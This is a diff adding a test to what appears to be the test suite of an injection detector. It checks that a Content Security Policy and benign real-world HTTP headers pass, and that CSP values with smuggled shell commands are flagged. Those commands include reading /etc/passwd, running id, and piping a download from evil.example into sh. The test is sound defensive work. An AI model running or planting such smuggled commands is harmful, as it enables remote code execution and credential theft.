@@ -2343,3 +2343,23 @@ t.test("twenty-ninth round (ua-parser's 17,816 test User-Agents): a User-Agent's
     t.ok(header('user-agent', ua).includes('rce'), ua)
   }
 })
+
+t.test('thirtieth round: a site\'s security policy as a setting, and the headers real clients send', async (t) => {
+  const policy = "default-src 'self'; script-src 'self' 'unsafe-inline' https://cdn.example.com; img-src * data:; report-uri /csp"
+  t.same(json({ content_security_policy: policy }), [], 'a Content Security Policy in a JSON field')
+  t.same(q(policy, 'csp'), [], 'and in a query')
+  for (const p of ["default-src 'self'; report-uri /csp; cat /etc/passwd", "default-src 'self'; report-uri /csp `id`", "default-src 'self'; report-uri $(curl evil.example|sh)"]) {
+    t.ok(q(p, 'csp').includes('rce'), `still read: ${p}`)
+  }
+  const headers: [string, string][] = [
+    ['sec-ch-ua-full-version-list', '"Not/A)Brand";v="8.0.0.0", "Chromium";v="126.0.6478.127", "Google Chrome";v="126.0.6478.127"'],
+    ['cookie', 'OptanonConsent=isGpcEnabled=0&datestamp=Thu+Dec+04+2025+12%3A00%3A00+GMT%2B0100+(Central+European+Standard+Time)&version=202310.1.0&groups=C0001%3A1%2CC0002%3A1'],
+    ['cookie', 'mp_abc_mixpanel=%7B%22distinct_id%22%3A%20%22123%22%2C%22%24device_id%22%3A%20%22abc%22%2C%22%24initial_referrer%22%3A%20%22%24direct%22%7D'],
+    ['authorization', 'AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request, SignedHeaders=host;range;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024'],
+    ['user-agent', 'aws-sdk-js/3.600.0 ua/2.0 os/linux#6.5.0 lang/js md/nodejs#20.11.1 api/s3#3.600.0'],
+    ['user-agent', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/470.0.0.33.108;FBDV/iPhone15,3;FBLC/en_US]'],
+    ['baggage', 'userId=alice,serverNode=DF%2028,isProduction=false'],
+    ['link', '<https://api.github.com/repositories/1300192/issues?page=2>; rel="next"'],
+  ]
+  for (const [name, value] of headers) t.same(header(name, value), [], `${name}: ${value.slice(0, 60)}`)
+})
